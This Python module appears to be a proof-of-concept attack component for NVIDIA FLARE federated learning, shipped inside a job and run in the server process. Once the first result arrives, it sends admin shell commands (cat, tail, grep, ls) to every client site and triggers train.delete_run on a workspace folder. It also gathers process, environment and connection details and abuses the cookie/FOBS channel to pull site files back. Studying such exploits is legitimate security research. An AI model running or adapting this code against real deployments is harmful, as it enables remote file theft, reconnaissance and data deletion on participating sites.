"""Code in the server's process that gives FLARE's commands to the sites, as an attacker would; it travels with a job."""

import json
import os
import threading

from nvflare.apis.fl_component import FLComponent
from nvflare.apis.fl_constant import FLContextKey
from nvflare.fuel.f3.cellnet.core_cell import Message as CellMessage
from nvflare.fuel.f3.cellnet.defs import Encoding, MessageHeaderKey
from nvflare.private.admin_defs import Message
from nvflare.private.defs import RequestHeader, new_cell_message

from crafted_kit import encoded, file_at, with_cookie

ADMIN, JOB, NETWORK, BESIDE = "admin", "client_command", "_net_manager", "aux_communication"
SHELL = ("cat {0}", "tail {0}", "head {0}", "grep ward {0}", "ls {1}")


class Asker(FLComponent):
    """Asks every site once, when the first result has come: its own process, and that of the job.

    Parameters
    ----------
    sites : list of str
        Names of the sites.
    file, folder : str
        A file of each site, with ``{}`` for the site's name, and a folder of a site's workspace.
    """

    def __init__(self, sites, file, folder):
        super().__init__()
        self.sites, self.file, self.folder, self.lock = sites, file, folder, threading.Lock()
        self.asked = False

    def handle_event(self, event_type, fl_ctx):
        if fl_ctx.get_prop(FLContextKey.TASK_RESULT) is None:
            return
        with self.lock:
            if not self.asked:
                self.asked = True
                job, cell = str(fl_ctx.get_job_id()), fl_ctx.get_engine().get_cell()
                found = {site: dict(self.ask(cell, site, job)) for site in self.sites}
                with open(os.environ["FEDVEIL_SEEN"] + ".asked", "w") as file:
                    json.dump(found, file)

    def ask(self, cell, site, job):
        file = self.file.format(site)
        for command in SHELL:
            body = command.format(file, os.path.dirname(file))
            yield command, self.admin(cell, site, "sys.shell", body)
        for topic in ("sys.info", "sys.report_env", "info.show_stats", "train.check_status"):
            yield topic, self.admin(cell, site, topic, "", job)
        yield "train.delete_run", self.admin(cell, site, "train.delete_run", "", self.folder)
        for topic in ("process_info", "config_vars", "conns"):
            yield topic, self.send(cell, NETWORK, topic, site, CellMessage())
            yield (
                f"{topic} of the job",
                self.send(cell, NETWORK, topic, f"{site}.{job}", CellMessage()),
            )
        for topic in ("show_stats", "show_errors", "configure_job_log", "check_status"):
            request = new_cell_message({}, "10" if topic == "configure_job_log" else {})
            yield topic, self.send(cell, JOB, topic, f"{site}.{job}", request)
        for name, target in (("a cookie", site), ("a cookie to the job", f"{site}.{job}")):
            yield name, self.cookie(cell, target, file)

    def cookie(self, cell, target, file):
        """What comes back for a cookie that stands for a file."""
        request = CellMessage(payload=encoded(with_cookie(file_at(file))))
        request.set_header(MessageHeaderKey.PAYLOAD_ENCODING, Encoding.FOBS)
        reply = cell.core_cell.send_request(BESIDE, "anything", target, request, timeout=5.0)
        jar = reply.payload.get_cookie_jar() if reply.payload else {}
        found = jar.get("cookie")  # FLARE writes a received file into a folder, and names that
        code = reply.get_header(MessageHeaderKey.RETURN_CODE)
        return f"{code} {open(found.value).read() if found else None}"

    def admin(self, cell, site, topic, body, job=None):
        message = Message(topic, body)
        if job is not None:
            message.set_header(RequestHeader.JOB_ID, job)
        return self.send(cell, ADMIN, topic, site, new_cell_message({}, message))

    def send(self, cell, channel, topic, target, request):
        reply = cell.core_cell.send_request(channel, topic, target, request, timeout=5.0)
        payload = getattr(reply.payload, "body", reply.payload)
        return f"{reply.get_header('return_code')} {payload}"
